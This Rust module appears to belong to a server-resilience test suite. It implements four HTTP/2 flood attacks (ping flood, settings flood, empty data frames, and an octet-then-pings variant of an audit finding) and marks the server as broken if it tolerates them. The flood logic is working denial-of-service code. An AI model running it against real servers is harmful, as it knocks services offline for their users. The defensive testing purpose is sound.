//! Frames that say nothing, as fast as the server takes them.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use super::http2;
use crate::attack::{Attack, Outcome, Round, Target};
use crate::wire;

/// CVE-2019-9512.
pub(super) const PING_FLOOD: Attack = Attack::new(
    "ping-flood",
    "CVE-2019-9512",
    "pings without end",
    |target| Box::pin(flood(target, pings)),
);

/// The audit's low finding: an octet of data sets the count of idle frames back.
pub(super) const OCTET_THEN_PINGS: Attack = Attack::new(
    "octet-then-pings",
    "low: idle counter",
    "an octet of data, then pings, again and again",
    |target| Box::pin(flood(target, octets)),
);

/// CVE-2019-9515.
pub(super) const SETTINGS_FLOOD: Attack = Attack::new(
    "settings-flood",
    "CVE-2019-9515",
    "settings without end, each of which wants an answer",
    |target| Box::pin(flood(target, settings)),
);

/// CVE-2019-9518.
pub(super) const EMPTY_FRAMES: Attack = Attack::new(
    "empty-frames",
    "CVE-2019-9518",
    "data frames of no octets on an open stream",
    |target| Box::pin(flood(target, empties)),
);

/// Frames that go out together.
const TOGETHER: usize = 500;
/// Answers that a connection may have at most.
const ANSWERS: u64 = 100_000;

/// The frames of a kind that go out together, for an open stream.
type Frames = fn(u32) -> Vec<u8>;

async fn flood(target: Arc<Target>, frames: Frames) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    let most = AtomicU64::new(0);
    target
        .again(&mut outcome, |_| async {
            let mut peer = http2(&target).await?;
            let stream = peer.call(&wire::ads()).await?;
            // The head of a message that does not end.
            peer.data(stream, &[0, 0, 15, 0, 0]).await?;
            let out = frames(stream);
            let mut sent = 0;
            // What is sent counts if the server ends it.
            while target.goes_on() && !peer.told.is_over() && peer.send(&out).await.is_ok() {
                sent += TOGETHER as u64;
                most.fetch_max(peer.told.answers.load(Ordering::Relaxed), Ordering::Relaxed);
                // Others of this process have a turn.
                tokio::task::yield_now().await;
            }
            let refused = u64::from(peer.told.is_over() || target.goes_on());
            Ok(Round { sent, refused })
        })
        .await;
    let most = most.into_inner();
    if most > ANSWERS {
        outcome.broke(format!(
            "{most} answers on one connection, more than {ANSWERS}"
        ));
    }
    if outcome.refused == 0 {
        outcome.broke("no connection was ended");
    }
    Ok(outcome)
}

fn pings(_: u32) -> Vec<u8> {
    wire::frame(wire::PING, 0, 0, &[0; 8]).repeat(TOGETHER)
}

fn octets(stream: u32) -> Vec<u8> {
    let mut out = wire::frame(wire::DATA, 0, stream, &[0]);
    out.extend(wire::frame(wire::PING, 0, 0, &[0; 8]).repeat(TOGETHER - 1));
    out
}

fn settings(_: u32) -> Vec<u8> {
    wire::frame(wire::SETTINGS, 0, 0, &[]).repeat(TOGETHER)
}

fn empties(stream: u32) -> Vec<u8> {
    wire::frame(wire::DATA, 0, stream, &[]).repeat(TOGETHER)
}
